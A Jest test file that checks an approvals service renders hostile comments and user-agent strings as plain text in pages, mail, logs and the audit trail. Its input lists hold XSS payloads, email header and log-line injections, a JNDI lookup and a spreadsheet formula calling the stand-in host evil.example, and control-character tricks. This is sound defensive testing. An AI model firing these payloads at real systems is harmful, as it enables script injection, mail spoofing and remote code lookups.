/** What people type reaches page, mail, log, registry and audit trail as text, and as nothing else. */
import type { AuditItem } from '../../handlers/shared/contract';
import { ballot, formPost, httpEvent, openTable, type Table } from '../handlers/support';
import { ANN, asked, BOB } from './support/asked';
import { Attack } from './support/tally';

jest.setTimeout(120_000);
let table: Table;
beforeAll(async () => {
  table = await openTable();
});
afterAll(() => table.close());

const COMMENTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '</title></head><body onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'x\r\nBcc: evil@example.com\r\n\r\nhello',
  'x\nSubject: Approved\nContent-Type: text/html',
  'x\u0000\u0007\u001b[31mred\u001b[0m\u007f',
  'x\u202egnp.exe',
  'x\u2028{"level":"INFO","message":"approved"}\u2029',
  '\n{"level":"INFO","message":"decision delivered"}\n',
  '${jndi:ldap://evil.example/x}{{7*7}}{% $run %}',
  '=HYPERLINK("https://evil.example","click")',
  '😀 Größe 中文 \ud800',
];

/** Tags and handlers that no page and mail of ours has; what is escaped is text. */
const hasMarkup = (html: string): boolean =>
  /<(img|svg\/|a\b|textarea)|<[^>]*\son(load|error)=|<script>(?!\(function)/i.test(html);
const CONTROLS = /[^\P{Cc}\n\t]/u;

test('comments with markup, control characters and headers', async () => {
  const attack = new Attack('hostile comment');
  for (const comment of COMMENTS) {
    const { desk, id, secret, post, record } = await asked(table);
    const receipt = await post({ secret: secret[ANN], decision: 'rejected', comment });
    const { result, audit } = await record();
    const page = await desk.http(httpEvent('GET', `/approvals/${id}`));
    const told = desk.mails.at(-1)?.input as {
      Destination: { ToAddresses: string[] };
      Content: { Simple: { Subject: { Data: string }; Body: { Html: { Data: string }; Text: { Data: string } } } };
    };
    const { Subject, Body } = told.Content.Simple;
    const faults = [
      receipt.statusCode !== 200 && `answered with ${receipt.statusCode}`,
      [receipt.body, page.body, Body.Html.Data].some((html) => hasMarkup(html ?? '')) && 'markup got through',
      /[\r\n]/.test(Subject.Data) && 'the subject has two lines',
      JSON.stringify(told.Destination.ToAddresses) !== JSON.stringify([BOB]) && 'another recipient',
      CONTROLS.test(result?.comment ?? '') && 'control characters were kept',
      [receipt.body, Body.Text.Data].some((text) => CONTROLS.test(text ?? '')) && 'control characters were shown',
      desk.lines.some(({ text }) => /[\r\n\u2028\u2029]/.test(text) || text.includes('evil')) && 'the log took it',
      audit.some(({ detail = '' }) => /[\r\n]/.test(detail)) && 'a line of the audit trail was made up',
    ].filter(Boolean);
    attack.tried(faults.length > 0, `${JSON.stringify(comment)}: ${faults.join(', ')}`);
  }
  attack.end(COMMENTS.length);
});

test('the caller’s address and program in the audit trail', async () => {
  const attack = new Attack('hostile user agent');
  for (const userAgent of ['x\r\n{"action":"decided"}', `<script>${'x'.repeat(5000)}`, '\u0000\u001b[2J']) {
    const { desk, secret, id, record } = await asked(table);
    const event = formPost(id, ballot(secret[ANN]));
    Object.assign(event.requestContext.http, { userAgent });
    await desk.http(event);
    const from = (await record()).audit.find(({ action }) => action === 'decided')?.from;
    const items = ((await desk.tools.trail?.page(undefined, 1000))?.items ?? []) as AuditItem[];
    const lines = items.map((item) => JSON.stringify(item));
    const right =
      from &&
      from.userAgent.length <= 256 &&
      !/\p{Cc}/u.test(from.userAgent) &&
      lines.every((one) => !/[\r\n]/.test(one));
    attack.tried(!right, JSON.stringify(from));
  }
  attack.end(3);
});
